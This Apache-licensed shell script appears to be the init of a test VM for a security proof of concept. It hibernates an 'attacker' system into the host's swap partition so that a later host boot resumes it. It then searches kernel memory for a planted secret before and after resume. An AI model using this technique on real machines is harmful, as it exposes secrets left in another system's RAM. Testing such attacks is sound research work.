#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# /init of the attacker's system, with the host's own kernel and drivers. It hibernates to the host's swap partition,
# and continues when something resumes it, with what the host has left in RAM by then.
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
mkdir -p /proc /sys /dev
mount -t proc proc /proc
mount -t sysfs sysfs /sys
mount -t devtmpfs devtmpfs /dev
exec >/dev/console 2>&1
modprobe -a virtio_pci virtio_blk
i=0
while [ ! -b /dev/vda3 ] && [ $i -lt 60 ]; do
	i=$((i + 1))
	sleep 1
done
secret=$(cat /secret-flipped)
echo "@@ attacker=ran"
echo "@@ hits-before=$(kcore "$secret")"
swapon /dev/vda3
echo shutdown >/sys/power/disk
echo disk >/sys/power/state || echo "@@ hibernated=no"
# From here on it is another boot: the host's.
echo "@@ resumed=yes"
echo "@@ hits-after=$(kcore "$secret")"
poweroff -f
